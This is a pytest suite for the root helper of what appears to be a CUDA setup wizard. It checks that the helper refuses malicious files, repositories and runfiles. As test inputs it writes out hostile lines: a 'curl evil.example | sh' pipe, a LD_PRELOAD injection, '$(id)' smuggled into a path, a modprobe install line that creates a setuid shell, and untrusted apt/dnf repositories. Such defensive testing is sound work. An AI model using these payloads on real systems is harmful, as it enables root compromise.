"""The helper checks content and provenance, not only argv: each of the five routes an audit used to
reach root code execution or persistence, attacked through the real RootExecutor in a throwaway
backups root; plus a closed window never kills a root step half-way, and an interrupted dpkg is
repaired first."""
from __future__ import annotations

import hashlib
import http.server
import io
import json
import os
import sys
import threading
import time

import pytest

from app.plan import Plan, Step
from app.plan.common import LDCONF_FILE, NOUVEAU_FILE, PROFILE_FILE
from app.plan.env import LDCONF_CONTENT, PROFILE_CONTENT
from app.plan.model import Edit
from app.run.privileged import PolicyError, RootExecutor, serve
from app.run.rootfiles import NOUVEAU_CONF, check_source_url, content_for, ld_conf, profile_sh
from app.run.runner import CancelToken, run_command

IS_ROOT = hasattr(os, "geteuid") and os.geteuid() == 0


def test_helper_templates_are_what_the_plan_shows():
    # the plan's preview and what root writes are the same text
    assert profile_sh("/usr/local/cuda") == PROFILE_CONTENT
    assert ld_conf(["/usr/local/cuda/lib64"]) == LDCONF_CONTENT


@pytest.mark.parametrize("content", [
    "export CUDA_HOME=/usr/local/cuda\ncurl evil.example | sh\n",
    "export CUDA_HOME=/usr/local/cuda\nexport LD_PRELOAD=/home/u/evil.so\n",
])
def test_write_env_profile_is_the_helpers_own_text(content):
    out = content_for("write_env", Edit(path=PROFILE_FILE, content=content))
    assert out == PROFILE_CONTENT and "evil" not in out


@pytest.mark.parametrize("content", [
    "export CUDA_HOME=/home/u/cuda\n",              # a user folder as CUDA_HOME
    "export CUDA_HOME=/usr/local/cuda$(id)\n",      # shell in the value
    "export CUDA_HOME=/usr/local/cuda-12.8/../../../tmp\n",
    "# nothing\n",
])
def test_write_env_profile_refuses_anything_but_a_cuda_folder(content):
    with pytest.raises(PolicyError):
        content_for("write_env", Edit(path=PROFILE_FILE, content=content))


@pytest.mark.parametrize("content", ["/home/u/lib\n/usr/local/cuda/lib64\n", "/tmp\n", "include /home/u/x.conf\n",
                                     "/usr/local/cuda/lib64/../../../../home/u\n"])
def test_linker_path_never_takes_a_user_folder(content):
    with pytest.raises(PolicyError):
        content_for("write_env", Edit(path=LDCONF_FILE, content=content))


def test_nouveau_file_never_carries_an_install_command():
    evil = "blacklist nouveau\ninstall nouveau /bin/sh -c 'cp /bin/sh /tmp/x; chmod u+s /tmp/x'\n"
    assert content_for("blacklist_nouveau", Edit(path=NOUVEAU_FILE, content=evil)) == NOUVEAU_CONF
    assert "install" not in NOUVEAU_CONF


@pytest.mark.parametrize("line", [
    "deb [trusted=yes] https://developer.download.nvidia.com/compute/cuda/repos/debian12/x86_64/ /",
    "deb [signed-by=/usr/share/keyrings/cuda-archive-keyring.gpg trusted=yes] https://developer.download.nvidia.com/x/ /",
    "deb [signed-by=/home/u/my.gpg] https://developer.download.nvidia.com/x/ /",
    "deb [signed-by=/usr/share/keyrings/cuda-archive-keyring.gpg] http://evil.example/repo/ /",
    "deb [signed-by=/usr/share/keyrings/cuda-archive-keyring.gpg] https://developer.download.nvidia.com/x/ /\n"
    "deb [trusted=yes] http://evil.example/ /",
])
def test_apt_mirror_source_is_signed_by_nvidia_and_from_a_known_host(line, tmp_path):
    path = "/etc/apt/sources.list.d/cuda-debian12-x86_64.list"
    with pytest.raises(PolicyError):
        content_for("set_repo_mirror", Edit(path=path, content=line + "\n"), mirrors_file=str(tmp_path / "none"))


def test_apt_mirror_from_nvidia_or_a_mirror_root_listed(tmp_path):
    path = "/etc/apt/sources.list.d/cuda-debian12-x86_64.list"
    line = "deb [signed-by=/usr/share/keyrings/cuda-archive-keyring.gpg] {}/ /\n"
    nv = "https://developer.download.nvidia.com/compute/cuda/repos/debian12/x86_64"
    assert content_for("set_repo_mirror", Edit(path=path, content=line.format(nv))).endswith(f"] {nv}/ /\n")
    mirrors = tmp_path / "mirrors"
    mirrors.write_text("# root's mirrors\nhttp://mirror.lan/nvidia\n")
    mine = "http://mirror.lan/nvidia/debian12/x86_64"
    if IS_ROOT:
        out = content_for("set_repo_mirror", Edit(path=path, content=line.format(mine)), mirrors_file=str(mirrors))
        assert mine in out
        os.chmod(mirrors, 0o666)  # a list anyone can write is no list
    with pytest.raises(PolicyError, match="mirror listed"):
        content_for("set_repo_mirror", Edit(path=path, content=line.format(mine)), mirrors_file=str(mirrors))


def test_dnf_repo_pins_nvidias_key_and_refuses_other_urls():
    from app.run.privileged import argv_allowed

    text = ("[cuda-rhel9-x86_64]\nname=x\nbaseurl=https://developer.download.nvidia.com/compute/cuda/repos/rhel9/x86_64\n"
            "enabled=1\ngpgcheck=0\ngpgkey=http://evil.example/key.pub\n")
    out = content_for("add_repo", Edit(path="/etc/yum.repos.d/cuda-rhel9.repo", content=text))
    assert "gpgcheck=1" in out and "evil" not in out
    assert "gpgkey=https://developer.download.nvidia.com/compute/cuda/repos/rhel9/x86_64/D42D0685.pub" in out
    good = "https://developer.download.nvidia.com/compute/cuda/repos/rhel9/x86_64/cuda-rhel9.repo"
    assert argv_allowed("add_repo", ["dnf", "config-manager", "--add-repo", good])
    for url in ("http://developer.download.nvidia.com/compute/cuda/repos/rhel9/x86_64/cuda-rhel9.repo",
                "file:///home/u/evil.repo", "https://evil.example/cuda-rhel9.repo"):
        assert not argv_allowed("add_repo", ["dnf", "config-manager", "--add-repo", url]), url
        assert not argv_allowed("add_repo", ["dnf", "config-manager", "addrepo", f"--from-repofile={url}"]), url


@pytest.mark.parametrize("path", ["/etc/profile", "/etc/bash.bashrc", "/root/.bashrc", "/etc/ld.so.conf.d/libc.conf",
                                  "/etc/ld.so.conf.d/x86_64-linux-gnu.conf", "/etc/environment"])
def test_cleanup_never_deletes_system_files(path, tmp_path):
    ex = RootExecutor(str(tmp_path / "b"))
    with pytest.raises(PolicyError):
        ex.edit("cleanup_cuda", Edit(path=path, mode="delete"), "s1")


def test_cleanup_removes_only_lines_naming_cuda(tmp_path):
    with pytest.raises(PolicyError, match="CUDA folder"):
        content_for("cleanup_cuda", Edit(path="/etc/bash.bashrc", mode="remove_lines", lines=("umask 022",)))
    assert content_for("cleanup_cuda", Edit(path="/etc/bash.bashrc", mode="remove_lines",
                                            lines=("export PATH=/usr/local/cuda-11.8/bin:$PATH",))) is None


def test_wsl_conf_never_gets_a_boot_command():
    bad = Edit(path="/etc/wsl.conf", mode="ini_set", section="boot", settings=(("command", "sh /home/u/x"),))
    with pytest.raises(PolicyError):
        content_for("wsl_fix", bad)


# --- runfiles: only what NVIDIA published for that exact file ---------------------------------------

class _Sums(http.server.BaseHTTPRequestHandler):
    files: dict[str, bytes] = {}

    def do_GET(self):  # noqa: N802
        body = self.files.get(self.path)
        if body is None:
            self.send_response(404)
            self.end_headers()
            return
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *a):
        pass


@pytest.fixture()
def nvidia():
    srv = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Sums)
    t = threading.Thread(target=srv.serve_forever, daemon=True)
    t.start()
    yield f"http://127.0.0.1:{srv.server_port}"
    srv.shutdown()
    srv.server_close()


def _runfile(tmp_path, body: bytes, name="cuda_12.8.1_570.124.06_linux.run"):
    p = tmp_path / name
    p.write_bytes(body)
    return {f"@download:{name}": {"path": str(p), "sha256": hashlib.sha256(body).hexdigest()}}, name


def _run_runfile(ex, files, name):
    argv = ["sh", f"@download:{name}", "--silent", "--toolkit", "--toolkitpath=/usr/local/cuda-12.8"]
    return ex.run("run_runfile", argv, {}, 30, files, lambda _l: None, lambda _p: None, CancelToken())


def test_runfile_with_its_own_sha256_is_refused_unless_nvidia_lists_it(tmp_path, nvidia):
    marker = tmp_path / "pwned"
    evil = f"#!/bin/sh\ntouch {marker}\n".encode()
    files, name = _runfile(tmp_path, evil)
    ex = RootExecutor(str(tmp_path / "b"), nvidia_base=nvidia, known_sums_dirs=())
    _Sums.files = {"/compute/cuda/12.8.1/docs/sidebar/md5sum.txt": b"0123456789abcdef0123456789abcdef  " + name.encode() + b"\n"}
    with pytest.raises(PolicyError, match="not in the checksum list"):
        _run_runfile(ex, files, name)
    assert not marker.exists()
    # a script under another name is refused before anything is fetched
    files2, name2 = _runfile(tmp_path, evil, "installer.run")
    with pytest.raises(PolicyError, match="not the name of one of NVIDIA's CUDA runfiles"):
        _run_runfile(ex, files2, name2)
    # listed for exactly this file: it runs
    good = f"#!/bin/sh\necho ok > {marker}\n".encode()
    files3, name3 = _runfile(tmp_path, good)
    _Sums.files = {"/compute/cuda/12.8.1/docs/sidebar/md5sum.txt":
                   f"{hashlib.md5(good).hexdigest()}  {name3}\n{hashlib.md5(evil).hexdigest()}  other.run\n".encode()}
    out = _run_runfile(ex, files3, name3)
    assert out.rc == 0 and marker.read_text() == "ok\n"


def test_runfile_checksum_from_roots_known_list(tmp_path):
    body = b"#!/bin/sh\nexit 0\n"
    files, name = _runfile(tmp_path, body)
    sums = tmp_path / "sums"
    sums.mkdir(mode=0o755)
    (sums / "cuda.txt").write_text(f"{hashlib.sha256(body).hexdigest()}  {name}\n")
    ex = RootExecutor(str(tmp_path / "b"), nvidia_base="http://127.0.0.1:9", known_sums_dirs=(str(sums),))
    if IS_ROOT:
        assert _run_runfile(ex, files, name).rc == 0
    else:  # the known list must be root's: a user's own list does not count
        with pytest.raises(PolicyError):
            _run_runfile(ex, files, name)


def test_check_source_url_refuses_a_users_file_mirror(tmp_path):
    d = tmp_path / "mirror"
    d.mkdir()
    if IS_ROOT:
        os.chown(d, 65534, 65534)
    with pytest.raises(PolicyError, match="can be changed by a user"):
        check_source_url(f"file://{d}")
    for bad in ("https://developer.download.nvidia.com/x\nfoo", "ftp://developer.download.nvidia.com/x",
                "https://developer.download.nvidia.com/a/../../b"):
        with pytest.raises(PolicyError):
            check_source_url(bad)


# --- the window goes away: the root step finishes -------------------------------------------------

def test_closed_window_lets_a_root_step_finish(tmp_path):
    marker = tmp_path / "finished"

    class Permissive(RootExecutor):  # skips the allow-list so a harmless python can stand in for dpkg
        def run(self, kind, argv, env, timeout_s, files, on_line, on_progress, cancel):
            return run_command(argv, on_line=on_line, on_progress=on_progress, timeout_s=timeout_s, cancel=cancel)

    code = f"import time; print('unpacking', flush=True); time.sleep(1.0); open({str(marker)!r}, 'w').write('done')"
    req = {"id": 1, "op": "run", "kind": "install_toolkit", "argv": [sys.executable, "-c", code]}

    class Gone(io.StringIO):  # the wizard's end of the pipe: closed after the first line
        def write(self, s):
            if self.getvalue().count("\n") >= 2:
                raise BrokenPipeError(32, "Broken pipe")
            return super().write(s)

    def stdin():
        yield json.dumps(req) + "\n"
        yield json.dumps({"id": 1, "op": "cancel"}) + "\n"  # a cancel during dpkg: refused, it finishes
        time.sleep(0.2)  # then EOF: the window was killed
    t0 = time.monotonic()
    assert serve(stdin(), Gone(), Permissive()) == 0
    assert marker.read_text() == "done" and time.monotonic() - t0 >= 0.9


# --- an interrupted dpkg is finished first ----------------------------------------------------------

def test_interrupted_dpkg_is_repaired_before_apt_steps(tmp_path):
    from app.run import Executor, Session
    from app.run.executor import REPAIR_DPKG_ID, with_dpkg_repair
    from app.system import SnapshotSystem

    step = Step(id="install_cuda_toolkit", kind="install_toolkit", title="t", why="t", needs_root=True,
                commands=(("apt-get", "install", "-y", "cuda-toolkit-12-8"),))
    plan = Plan(steps=(step,))
    broken = SnapshotSystem({"format": "gpu-wizard-snapshot/1", "platform": "linux",
                             "dirs": {"/var/lib/dpkg/updates": ["0003", "tmp.i"]}})
    clean = SnapshotSystem({"format": "gpu-wizard-snapshot/1", "platform": "linux",
                            "dirs": {"/var/lib/dpkg/updates": []},
                            "commands": {"dpkg --audit": {"rc": 0, "stdout": "", "stderr": ""}}})
    audit = SnapshotSystem({"format": "gpu-wizard-snapshot/1", "platform": "linux",
                            "dirs": {"/var/lib/dpkg/updates": []},
                            "commands": {"dpkg --audit": {"rc": 1, "stdout": "The following packages are only half "
                                                          "configured:\n cuda-nvcc-12-8\n", "stderr": ""}}})
    assert [s.id for s in with_dpkg_repair(plan, broken).steps] == [REPAIR_DPKG_ID, "install_cuda_toolkit"]
    assert [s.id for s in with_dpkg_repair(plan, audit).steps][0] == REPAIR_DPKG_ID
    assert with_dpkg_repair(plan, clean) is plan

    calls = []

    class Priv:
        def run(self, kind, argv, env, timeout_s, files, on_line, on_progress, cancel):
            from app.run.runner import CommandOutcome

            calls.append((kind, list(argv)))
            return CommandOutcome(argv=list(argv), rc=0)

    session = Session.create(tmp_path / "s")
    r = Executor(plan, session, system=broken, privilege=Priv()).run()
    assert r.status == "ok"
    assert calls[0] == ("repair_packages", ["dpkg", "--configure", "-a"])
    saved = json.loads((session.dir / "plan.json").read_text())
    assert saved["steps"][0]["id"] == REPAIR_DPKG_ID
    from app.run.privileged import argv_allowed

    assert argv_allowed("repair_packages", ["dpkg", "--configure", "-a"])
    assert not argv_allowed("repair_packages", ["dpkg", "-i", "/tmp/x.deb"])


def test_closing_the_wizard_never_kills_a_helper_that_is_finishing(tmp_path):
    """The client's close(): quit, then stop waiting; the helper process (here a stand-in that needs
    2 s after quit, as a dpkg step would) is not killed and ends by itself."""
    from app.run.privilege import HelperPrivilege

    marker = tmp_path / "finished"
    code = ("import json, sys, time\n"
            "print(json.dumps({'event': 'ready', 'uid': 0}), flush=True)\n"
            "for line in sys.stdin:\n"
            "    req = json.loads(line)\n"
            "    if req.get('op') == 'ping':\n"
            "        print(json.dumps({'id': req['id'], 'event': 'pong'}), flush=True)\n"
            "    if req.get('op') == 'quit':\n"
            "        break\n"
            f"time.sleep(2); open({str(marker)!r}, 'w').write('done')\n")
    p = HelperPrivilege([sys.executable, "-c", code], how="test")
    assert p._request({"op": "ping"})["event"] == "pong"
    proc = p.proc
    t0 = time.monotonic()
    p.close(wait_s=0.3)
    assert time.monotonic() - t0 < 2
    assert proc.wait(timeout=10) == 0  # exited normally: not killed
    assert marker.read_text() == "done"


def test_plan_previews_show_what_the_helper_writes():
    """Every root file text a builder plans is the text the helper generates from it (the preview
    and --script show exactly what root writes)."""
    from app.choices import Choices, Mirrors
    from app.facts import Facts, OsInfo
    from app.plan import build_plan
    from app.recommendation import Recommendation, ToolkitChoice

    rec = Recommendation(cuda_toolkit=ToolkitChoice(wanted=True, version="12.8", package="cuda-toolkit-12-8"))
    seen = 0
    for os_id, ver, pm in (("debian", "12", "apt"), ("rhel", "9", "dnf")):
        facts = Facts(os=OsInfo(platform="linux", id=os_id, version_id=ver, arch="x86_64", package_manager=pm))
        for mirror in (None, "https://developer.download.nvidia.com/compute/cuda/repos"):
            plan = build_plan(facts, rec, Choices(want_toolkit=True, mirrors=Mirrors(nvidia_repo_url=mirror)))
            for step in plan.steps:
                for e in step.edits:
                    if e.needs_root and e.mode in ("write", "append"):
                        assert content_for(step.kind, e) == e.content, (step.id, e.path)
                        seen += 1
    assert seen >= 3
